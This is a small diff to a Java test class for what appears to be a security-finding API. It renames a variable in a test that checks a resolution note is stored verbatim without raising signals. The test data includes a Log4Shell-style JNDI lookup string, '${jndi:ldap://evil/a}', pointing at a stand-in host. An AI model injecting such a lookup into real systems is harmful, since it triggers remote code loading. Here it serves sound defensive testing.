@@ -193,10 +193,10 @@ final class ThreatsTest {
     FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);
     String note = "the payload was ${jndi:ldap://evil/a} in the header";
 
-    Call call =
+    Answered resolved =
         resolve(record, "\"1\"", "{\"verdict\":\"truePositive\",\"note\":\"" + note + "\"}");
 
-    assertThat(call.body().at("/resolution/note").asText()).isEqualTo(note);
+    assertThat(resolved.body().at("/resolution/note").asText()).isEqualTo(note);
     assertThat(api.signals).isEmpty();
   }
 
